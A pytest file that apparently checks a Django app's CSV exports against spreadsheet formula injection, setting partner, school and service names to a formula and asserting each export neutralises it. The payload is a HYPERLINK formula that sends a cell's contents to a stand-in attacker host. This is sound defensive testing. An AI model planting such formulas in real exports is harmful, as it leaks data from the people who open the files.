"""No CSV a person downloads carries a live spreadsheet formula (issue #16, CSV injection).

A partner names its organization and services; a lead names schools and partnerships. Each
export page is downloaded with such names set to a formula: every cell that starts like a
formula comes out with a leading apostrophe, and numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import tablib
from django.urls import reverse

from conftest import World
from village.directory.tests.factories import add_service
from village.families.actions import disclose
from village.families.tests.helpers import make_consent
from village.families.vocab import Channel
from village.lib.spreadsheet import csv_response, safe_cell
from village.partnerships.tests.matrix import clinic_partnership

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
NEUTRAL = "'" + EVIL


def _cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for cell in row]


def _no_formula(cells: list[str]) -> None:
    assert not [c for c in cells if c.startswith(("=", "@", "\t", "\r"))]


def _evil_world(world: World) -> None:
    world.clinic.name = EVIL
    world.clinic.save()
    world.lincoln.name = EVIL
    world.lincoln.save()
    partnership = clinic_partnership(world)
    partnership.name = EVIL
    partnership.save()
    add_service(world.clinic, name=EVIL, latitude=41.88, longitude=-87.63)


def test_the_disclosure_record_export_neutralises_a_partner_named_like_a_formula(login: Any, world: World) -> None:
    _evil_world(world)
    make_consent(world)
    disclose(world.rosa, world.layla, world.clinic, ["name"], "referral", Channel.REFERRAL)
    cells = _cells(login("dana").get(reverse("families:disclosure_export", kwargs={"slug": "riverbend"})).content)
    assert NEUTRAL in cells
    _no_formula(cells)


def test_the_partnership_exports_neutralise_formula_names(login: Any, world: World) -> None:
    _evil_world(world)
    response = login("dana").get(reverse("partnerships:export", kwargs={"slug": "riverbend", "kind": "partnerships"}))
    cells = _cells(response.content)
    assert cells.count(NEUTRAL) >= 2  # the partnership's name and its organization's
    _no_formula(cells)


def test_the_coverage_export_neutralises_a_school_named_like_a_formula(login: Any, world: World) -> None:
    _evil_world(world)
    cells = _cells(login("dana").get(reverse("directory:coverage_csv")).content)
    assert NEUTRAL in cells
    _no_formula(cells)


def test_the_hsds_package_neutralises_a_service_named_like_a_formula(login: Any, world: World) -> None:
    _evil_world(world)
    package = login("rosa").get(reverse("directory:export_package", kwargs={"slug": world.region.slug})).content
    archive = zipfile.ZipFile(io.BytesIO(package))
    services = _cells(archive.read("services.csv"))
    assert NEUTRAL in services
    for name in archive.namelist():
        _no_formula(_cells(archive.read(name)))


def test_numbers_stay_numbers_and_every_formula_start_is_neutralised() -> None:
    assert [safe_cell(v) for v in (-3, -2.5, Decimal("-1.25"), None, "-4", "+1.5", "-1e3")] == [
        -3,
        -2.5,
        Decimal("-1.25"),
        None,
        "-4",
        "+1.5",
        "-1e3",
    ]
    assert [safe_cell(v) for v in ("=1+1", "+A1", "-A1+1", "@SUM(A1)", "\tx", "\rx", "plain", "")] == [
        "'=1+1",
        "'+A1",
        "'-A1+1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "plain",
        "",
    ]
    data = tablib.Dataset(["=cmd", -7, "a,=b"], headers=["@h", "n", "c"])
    body = csv_response(data, "x.csv").content.decode()
    assert body.splitlines() == ["'@h,n,c", '\'=cmd,-7,"a,=b"']


def test_no_csv_is_written_outside_the_one_safe_place() -> None:
    """Every CSV response goes through `village.lib.spreadsheet` (the rejection report and the
    HSDS package neutralise their cells with its `safe_cell`)."""
    allowed = {
        Path("village/lib/spreadsheet.py"),
        Path("village/lib/imports.py"),
        Path("village/directory/hsds/package.py"),  # its cells go through safe_cell (see _cell)
    }
    offenders = [
        str(path)
        for path in Path("village").rglob("*.py")
        if "tests" not in path.parts
        and path not in allowed
        and ('.export("csv")' in (text := path.read_text()) or "text/csv" in text)
    ]
    assert offenders == []
